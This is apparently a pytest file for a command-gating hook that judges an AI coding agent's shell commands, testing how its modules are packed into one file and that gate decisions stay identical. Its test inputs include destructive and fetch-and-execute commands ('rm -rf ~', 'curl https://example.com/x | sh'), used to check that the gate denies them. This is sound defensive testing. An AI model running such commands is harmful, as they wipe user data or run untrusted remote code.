"""The modules in one file: the same answers and entries, never an old one's, and no file that could break a call."""

from __future__ import annotations

import json
import marshal
import os
import shutil
import subprocess
import sys
from importlib.machinery import SourceFileLoader
from importlib.util import MAGIC_NUMBER, cache_from_source
from pathlib import Path
from types import CodeType
from typing import TYPE_CHECKING

import pytest

from support.hooks import HOOK, event
from web4_governance import packed
from web4_governance.app import packing
from web4_governance.storage import open_reader

if TYPE_CHECKING:
    from collections.abc import Callable

NO_PYCACHE = shutil.ignore_patterns("__pycache__", "console", "reports", "web4-client")


@pytest.fixture(scope="module")
def copied(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A package of its own, packed: the one that the tests run from is everybody's."""
    place = tmp_path_factory.mktemp("place") / "web4_governance"
    shutil.copytree(os.path.dirname(HOOK), place, ignore=NO_PYCACHE)
    assert packing.pack(str(place))
    return place


@pytest.fixture
def package(copied: Path) -> Path:
    """The same, with the file as it was made."""
    assert packing.pack(str(copied))
    return copied


@pytest.fixture
def home(tmp_path: Path) -> Path:
    place = tmp_path / "home"
    place.mkdir(mode=0o700)
    (place / "policy.json").write_text('{"extends":["safety"],"enforce":true}')
    return place


def file_of(package: Path) -> Path:
    return Path(packed.path_in(str(package)))


def ask(package: Path, home: Path, command: str, *options: str) -> subprocess.CompletedProcess[bytes]:
    words = [sys.executable, *options, "-I", "-S", str(package / "hook.py"), "claude-code", "--home", str(home)]
    given = json.dumps(event("PreToolUse", f"t-{command}", tool_input={"command": command})).encode()
    environment = dict(os.environ, HOME=str(home.parent))
    return subprocess.run(
        [*words, "--on-failure=block", "--deadline-ms=20000"],
        input=given,
        capture_output=True,
        env=environment,
        timeout=60,
        check=False,
    )


def decisions(home: Path) -> list[object]:
    with open_reader(str(home)) as reader:
        bodies = [one.body() for one in reader.entries() if str(one.kind) == "intent"]
    return [(body["rules"]["decision"], body["request"]["categories"]) for body in bodies]  # type: ignore[index,call-overload]


def loaded_from(package: Path, home: Path) -> set[str]:
    """Give the names of the modules that the interpreter's own finders opened."""
    program = (
        "import sys; sys.path.insert(0, sys.argv[1]); import packed; packed.install()\n"
        "import web4_governance.app.gate, web4_governance.storage.writer\n"
        "print(*[name for name, one in sys.modules.items() if name.startswith('web4') "
        "and type(one.__spec__.loader).__name__ != 'Packed'])"
    )
    command = [sys.executable, "-I", "-S", "-c", program, str(package)]
    done = subprocess.run(command, capture_output=True, text=True, cwd=home, timeout=60, check=True)
    return set(done.stdout.split())


def test_a_packed_gate_answers_and_records_what_any_does(package: Path, home: Path, tmp_path: Path) -> None:
    """And nothing of it is looked for elsewhere."""
    other = tmp_path / "other"
    shutil.copytree(home, other)
    commands = ("ls", "rm -rf ~", "git push --force", "curl https://example.com/x | sh")
    answers = [ask(package, home, command) for command in commands]
    assert loaded_from(package, home) == set()
    packing.unpack(str(package))
    plain = [ask(package, other, command) for command in commands]
    assert "web4_governance.app.gate" in loaded_from(package, home)
    assert [one.returncode for one in answers] == [one.returncode for one in plain]
    assert decisions(home) == decisions(other)
    assert len(decisions(home)) == len(commands)


def test_a_source_that_changed_is_what_runs(package: Path, home: Path) -> None:
    """It and no other is looked for elsewhere, until the file is made anew."""
    source = package / "app" / "failing.py"
    before = source.read_text()
    times = source.stat()
    try:
        source.write_text(before.replace("call blocked", "call stopped"))
        (home / "policy.json").write_text("{")
        done = ask(package, home, "ls")
        assert done.returncode == 2
        assert b"call stopped" in done.stderr
        assert not packing.is_current(str(package))
        assert packing.pack(str(package))
        assert packing.is_current(str(package))
        assert b"call stopped" in ask(package, home, "ls").stderr
    finally:
        source.write_text(before)
        os.utime(source, ns=(times.st_atime_ns, times.st_mtime_ns))


def test_what_no_call_asks_of_a_module_is_not_packed(package: Path) -> None:
    """No docstring, and no name that only type checkers import; functions and lines are those of the source."""
    handle = os.open(file_of(package), os.O_RDONLY)
    table = packed.table_of(handle)
    assert table is not None
    below, _, _, at, length, _ = table["web4_governance.app.look"]
    code = marshal.loads(os.pread(handle, length, at))  # ours
    os.close(handle)
    source = (package / below[1:]).read_text()
    whole = compile(source, below, "exec", dont_inherit=True)
    told = [[one for one in of.co_consts if isinstance(one, CodeType)] for of in (code, whole)]
    assert len(told[0]) > 5
    assert [(one.co_name, one.co_firstlineno) for one in told[0]] == [(o.co_name, o.co_firstlineno) for o in told[1]]
    assert "web4_governance.core.event" in whole.co_names
    assert "web4_governance.core.event" not in code.co_names
    assert "web4_governance.core.value" in code.co_names
    assert whole.co_consts[0] == source[3 : len(whole.co_consts[0]) + 3]
    assert whole.co_consts[0] not in code.co_consts


def test_what_the_interpreter_keeps_of_an_older_source_is_not_packed(package: Path) -> None:
    """It tells sources apart by whole seconds; two changes of equal size in one of them are told apart here."""
    source = package / "app" / "failing.py"
    before = source.read_text()
    times = source.stat()
    second = 1_700_000_000_000_000_000
    try:
        source.write_text(before.replace("call blocked", "call stopped"))
        os.utime(source, ns=(second, second))
        keeps = SourceFileLoader("web4_governance.app.failing", str(source))
        keeps.set_data(cache_from_source(str(source)), _kept(keeps, source))
        assert b"call stopped" in marshal.dumps(keeps.get_code(keeps.name))
        source.write_text(before)
        os.utime(source, ns=(second, second + 1))
        assert packing.pack(str(package))
        assert b"call stopped" not in file_of(package).read_bytes()
        assert b"call blocked" in file_of(package).read_bytes()
    finally:
        source.write_text(before)
        os.utime(source, ns=(times.st_atime_ns, times.st_mtime_ns))
        Path(cache_from_source(str(source))).unlink(missing_ok=True)


def _kept(loader: SourceFileLoader, source: Path) -> bytes:
    """Give what the interpreter keeps of a source: its magic number, no flags, time, size, code (PEP 552)."""
    seen = source.stat()
    code = loader.source_to_code(source.read_bytes(), str(source))
    numbers = (0, int(seen.st_mtime), seen.st_size)
    return MAGIC_NUMBER + b"".join(one.to_bytes(4, "little") for one in numbers) + marshal.dumps(code)


def _cut(file: Path) -> None:
    file.write_bytes(file.read_bytes()[:-1])


def _grown(file: Path) -> None:
    file.write_bytes(file.read_bytes() + b"x")


def _empty(file: Path) -> None:
    file.write_bytes(b"")


def _other_interpreter(file: Path) -> None:
    data = bytearray(file.read_bytes())
    data[8] ^= 1
    file.write_bytes(bytes(data))


def _other_format(file: Path) -> None:
    file.write_bytes(file.read_bytes().replace(packed.MAGIC, b"W4PACK9\0", 1))


def _directory(file: Path) -> None:
    file.unlink()
    file.mkdir()


@pytest.mark.parametrize("spoil", [_cut, _grown, _empty, _other_interpreter, _other_format, _directory])
def test_a_file_that_is_not_whole_is_as_if_there_were_none(
    package: Path, home: Path, spoil: Callable[[Path], None]
) -> None:
    """The call is judged, and the next packing mends it."""
    file = file_of(package)
    spoil(file)
    try:
        assert ask(package, home, "rm -rf ~").returncode in (0, 2)
        assert [one[0] for one in decisions(home)] == ["deny"]  # type: ignore[index]
        assert not packing.is_current(str(package))
    finally:
        if file.is_dir():
            file.rmdir()
    assert packing.pack(str(package))


def test_a_module_whose_source_is_gone_is_gone(package: Path, home: Path) -> None:
    """As for the interpreter itself: what is left of it judges nothing."""
    source = package / "app" / "gate.py"
    kept = source.read_bytes()
    times = source.stat()
    source.unlink()
    try:
        done = ask(package, home, "ls")
        assert done.returncode == 2
        assert b"web4-governance: call blocked" in done.stderr
    finally:
        source.write_bytes(kept)
        os.utime(source, ns=(times.st_atime_ns, times.st_mtime_ns))


def test_where_nothing_may_be_written_there_is_no_file(tmp_path: Path) -> None:
    """And nobody is told: it only spares time."""
    place = tmp_path / "web4_governance"
    place.mkdir()
    (place / "__init__.py").write_text("")
    (place / "__pycache__").write_text("in the way")
    assert not packing.pack(str(place))
    packing.unpack(str(place))


def test_the_file_is_for_all_users_of_the_package(package: Path) -> None:
    """Readable by whom the package is, and made in one step: nobody sees a part of it."""
    file = file_of(package)
    assert file.stat().st_mode & 0o777 == 0o644
    assert os.listdir(file.parent).count(file.name) == 1
    assert not [name for name in os.listdir(file.parent) if ".web4." in name]
    handle = os.open(file, os.O_RDONLY)
    table = packed.table_of(handle)
    assert table is not None
    assert table["web4_governance"][5] is True
    at, length = table["web4_governance.spawned"][3:5]
    code = marshal.loads(os.pread(handle, length, at))  # our own
    os.close(handle)
    assert code.co_filename == str(package / "spawned.py")
